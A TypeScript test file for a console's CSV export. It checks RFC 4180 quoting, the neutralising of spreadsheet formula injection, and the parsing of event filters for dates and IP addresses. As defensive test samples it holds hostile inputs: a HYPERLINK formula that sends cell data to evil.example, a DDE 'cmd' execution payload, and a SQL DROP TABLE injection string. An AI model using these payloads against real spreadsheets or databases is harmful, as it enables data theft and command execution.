import { expect, test } from "bun:test"
import fc from "fast-check"
import { csvCell, csvRecord, csvText, parseCsv } from "../../src/console/csv.ts"
import { parseDateBound, readEventFilters } from "../../src/console/listFilters.ts"
import { parseNetwork } from "../../src/domain/ip.ts"

/** The console's CSV exports: RFC 4180 quoting, formula neutralising, and the Events filters' reading of dates and sources. */

test("a cell that starts with =, +, -, @, tab or CR gets a leading ' (and only then)", () => {
  expect(csvCell("=1+2")).toBe("'=1+2")
  expect(csvCell("+31 6 1234")).toBe("'+31 6 1234")
  expect(csvCell("-2")).toBe("'-2")
  expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)")
  expect(csvCell("\tcmd")).toBe("'\tcmd")
  // A CR needs quotes as well as the mark (and the formula after it one of its own: see the splitting spreadsheets).
  expect(csvCell("\r=cmd")).toBe(`"'\r'=cmd"`)
  for (const plain of ["root", "a=b", "1-2", "mail@example.com", "'already", "", "ümlaut=", "日本語", " ", " x=1"]) {
    expect(csvCell(plain)).toBe(plain)
  }
  expect(csvCell(null)).toBe("")
  expect(csvCell(undefined)).toBe("")
  expect(csvCell(42)).toBe("42")
  expect(csvCell(-1)).toBe("'-1")
  expect(csvCell(true)).toBe("true")
})

test("also a leading LF, whitespace before a formula character, and the full-width ＝ ＋ － ＠", () => {
  // A leading LF is marked (and quoted, as any LF).
  expect(csvCell("\n=cmd")).toBe(`"'\n'=cmd"`)
  expect(csvCell("\nplain")).toBe(`"'\nplain"`)
  // Spaces, a no-break space (U+00A0) or an ideographic space (U+3000) before = + - @.
  expect(csvCell(" =x")).toBe("' =x")
  expect(csvCell("   +1")).toBe("'   +1")
  expect(csvCell("\u00A0-2")).toBe("'\u00A0-2")
  expect(csvCell("\u3000@SUM(A1)")).toBe("'\u3000@SUM(A1)")
  expect(csvCell(" \u00A0\u3000=1")).toBe("' \u00A0\u3000=1")
  // The full-width forms, alone or after whitespace.
  for (const c of ["\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]) {
    expect(csvCell(`${c}1+1`)).toBe(`'${c}1+1`)
    expect(csvCell(`\u3000${c}cmd`)).toBe(`'\u3000${c}cmd`)
  }
  // Whitespace with a comma still gets RFC 4180 quotes around the mark.
  expect(csvCell(' =HYPERLINK("x","y")')).toBe(`"' =HYPERLINK(""x"",""y"")"`)
})

test("RFC 4180: quotes doubled, fields with a comma, quote, CR or LF quoted, records CRLF-ended", () => {
  expect(csvCell('say "hi"')).toBe('"say ""hi"""')
  expect(csvCell("a,b")).toBe('"a,b"')
  expect(csvCell("line1\nline2")).toBe('"line1\nline2"')
  expect(csvCell("line1\r\nline2")).toBe('"line1\r\nline2"')
  expect(csvRecord(["a", "b,c", 3])).toBe('a,"b,c",3\r\n')
  expect(csvRecord([])).toBe("\r\n")
})

test("attacker text survives a round trip: quotes, newlines, commas, unicode, formulas (neutralised)", () => {
  const attacker = [
    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    `"; DROP TABLE events; --`,
    "admin\r\n=cmd|' /C calc'!A0",
    "a,b,,c",
    '""',
    "-1+1",
    "@import",
    "\t\tindented",
    "\rcarriage",
    "\nline feed",
    " \u00A0\u3000=spaced",
    "\uFF1Dfull-width",
    "emoji 🦊 and RTL \u202e and ñ, 中文",
    "trailing newline\n",
    " ",
    "",
  ]
  const text = csvRecord(["column", "value"]) + attacker.map((value, i) => csvRecord([String(i), value])).join("")
  const back = parseCsv(text)
  expect(back[0]).toEqual(["column", "value"])
  expect(back.length).toBe(attacker.length + 1)
  attacker.forEach((value, i) => {
    const cell = back[i + 1]?.[1] as string
    expect(back[i + 1]?.[0]).toBe(String(i))
    // What a spreadsheet gets: never a cell that starts with a formula character.
    const formula = /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/
    expect(formula.test(cell)).toBe(false)
    // And the exact text once the marks are taken off.
    expect(csvText(cell)).toBe(value)
  })
})

// Where a spreadsheet that splits on `;` or `,` (and a line break), reading no quotes at all, would start a cell: the
// worst case of Excel set to `;`, which reads our quotes only where one of its own fields starts.
const cellsSplitAnywhere = (csv: string): Array<string> => csv.split(/[;,\r\n]/)
const RUNS_AS_FORMULA = /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/

test("a ; or , inside a cell starts a new cell in a spreadsheet that splits on it, so a formula after one is marked too", () => {
  expect(csvCell('a;=HYPERLINK("http://evil.example/","x")')).toBe(`"a;'=HYPERLINK(""http://evil.example/"",""x"")"`)
  expect(csvCell("x,@SUM(A1:A9)")).toBe(`"x,'@SUM(A1:A9)"`)
  expect(csvCell("x;+1")).toBe("x;'+1")
  expect(csvCell("x;-1")).toBe("x;'-1")
  // Tabs, spaces, quotes or a CR / LF between the separator and the formula character.
  expect(csvCell("a;\t=1")).toBe("a;'\t=1")
  expect(csvCell("a; \u00A0\u3000@x")).toBe("a;' \u00A0\u3000@x")
  expect(csvCell('a;"=1')).toBe(`"a;'""=1"`)
  expect(csvCell("a;\r=1")).toBe(`"a;\r'=1"`)
  expect(csvCell("a;\r\n=1")).toBe(`"a;\r\n'=1"`)
  expect(csvCell("a;\uFF1D1")).toBe("a;'\uFF1D1")
  // A line break inside a cell is a new row once a `;` split has undone our quotes.
  expect(csvCell("a\n=1")).toBe(`"a\n'=1"`)
  expect(csvCell("\n=1")).toBe(`"'\n'=1"`)
  // Only where a formula character follows.
  for (const plain of ["a;b", "a, b", "1,2;3", "a;'x", "line1\r\nline2", "x; y=1", "a;;", "a=b;c@d"]) {
    expect(parseCsv(csvRecord([plain]))[0]).toEqual([plain])
  }
  // A `'` already there gets one more, so the marks come off exactly.
  expect(csvCell("a;'=x")).toBe("a;''=x")
  expect(csvText("a;''=x")).toBe("a;'=x")
  expect(csvText(parseCsv(csvRecord(["\n=1"]))[0]?.[0] as string)).toBe("\n=1")
  // Every piece a splitting spreadsheet would make of these records is text.
  const record = csvRecord(["0", "a;=1", "x,@SUM(1)", "b;\t+2", 'c;"-3', "d\r\n@4"])
  for (const piece of cellsSplitAnywhere(record)) expect(RUNS_AS_FORMULA.test(piece)).toBe(false)
})

test("no cell or piece of one can start a formula in a spreadsheet splitting on ; or , and the marks come off exactly", () => {
  const unit = fc.constantFrom(
    ";",
    ",",
    "=",
    "+",
    "-",
    "@",
    "\uFF1D",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00A0",
    '"',
    "'",
    "a",
    "1",
  )
  fc.assert(
    fc.property(fc.array(fc.string({ unit, maxLength: 12 }), { minLength: 1, maxLength: 4 }), (cells) => {
      const csv = csvRecord(cells)
      for (const piece of cellsSplitAnywhere(csv)) expect(RUNS_AS_FORMULA.test(piece)).toBe(false)
      expect(parseCsv(csv)[0]?.map(csvText)).toEqual(cells)
    }),
    { numRuns: Number(process.env.FC_RUNS ?? 2000) },
  )
})

test("parseCsv is strict about malformed quoting", () => {
  expect(() => parseCsv('a"b,c\r\n')).toThrow()
  expect(() => parseCsv('"open,c\r\n')).toThrow()
  expect(() => parseCsv('"a"b,c\r\n')).toThrow()
  expect(parseCsv("")).toEqual([])
  expect(parseCsv("a,b")).toEqual([["a", "b"]])
  expect(parseCsv(",\r\n")).toEqual([["", ""]])
})

test("Events filters: a plain date is that UTC day; RFC 3339 as the API reads it; anything else is refused", () => {
  expect(parseDateBound("2026-11-26", "from")?.toISOString()).toBe("2026-11-26T00:00:00.000Z")
  // `to` is exclusive: the end of the day is the start of the next.
  expect(parseDateBound("2026-11-26", "to")?.toISOString()).toBe("2026-11-27T00:00:00.000Z")
  expect(parseDateBound("2026-12-31", "to")?.toISOString()).toBe("2027-01-01T00:00:00.000Z")
  expect(parseDateBound("2026-11-26T08:30:00+01:00", "from")?.toISOString()).toBe("2026-11-26T07:30:00.000Z")
  for (const bad of ["26/11/2026", "2026-11-31", "2026-13-01", "2026-11-26T08:00", "yesterday", "2026-11-26 08:00"]) {
    expect(parseDateBound(bad, "from")).toBeUndefined()
  }
})

test("Events filters: a source is an address (canonical) or a CIDR network (host bits cleared)", () => {
  const read = (text: string) => {
    const n = parseNetwork(text)
    return n === undefined ? undefined : n.single ? { address: n.address } : { cidr: n.cidr }
  }
  expect(read("203.0.113.7")).toEqual({ address: "203.0.113.7" })
  expect(read("2001:DB8::0:1")).toEqual({ address: "2001:db8::1" })
  expect(read("203.0.113.7/24")).toEqual({ cidr: "203.0.113.0/24" })
  expect(read("203.0.113.7/32")).toEqual({ address: "203.0.113.7" })
  expect(read("2001:db8::5/32")).toEqual({ cidr: "2001:db8::/32" })
  expect(read("0.0.0.0/0")).toEqual({ cidr: "0.0.0.0/0" })
  for (const bad of ["203.0.113", "203.0.113.7/33", "2001:db8::/129", "10.0.0.1/", "/24", "010.0.0.1", "host"]) {
    expect(read(bad)).toBeUndefined()
  }
})

test("Events filters: each value that cannot be read is named with what it accepts; the others still apply", () => {
  const read = readEventFilters({
    type: "",
    severity: "high",
    sensorId: "",
    sourceIp: "not-an-ip",
    from: "26/11/2026",
    to: "2026-11-27",
    incidentId: "",
  })
  expect(read.filters.severity).toBe("high")
  expect(read.filters.to?.toISOString()).toBe("2026-11-28T00:00:00.000Z")
  expect(read.filters.from).toBeUndefined()
  expect(read.filters.sourceIp).toBeUndefined()
  expect(read.errors.length).toBe(2)
  expect(read.errors[0]).toContain("“Source IP”")
  expect(read.errors[0]).toContain("203.0.113.0/24")
  expect(read.errors[1]).toContain("“From”")
  expect(read.errors[1]).toContain("2026-11-26")
})

test("Events filters: an incident id that cannot be read is named, never dropped silently", () => {
  const form = { type: "", severity: "", sensorId: "", sourceIp: "", from: "", to: "", incidentId: "inc_typo" }
  const read = readEventFilters(form)
  expect(read.filters.incidentId).toBeUndefined()
  expect(read.errors).toEqual([
    "“Incident” must be an incident id: inc_ and 26 letters and digits, as an incident page shows it.",
  ])
  expect(readEventFilters({ ...form, incidentId: "inc_01JC2W6K3X0N4M5P7Q8R9S0T1V" }).errors).toEqual([])
})
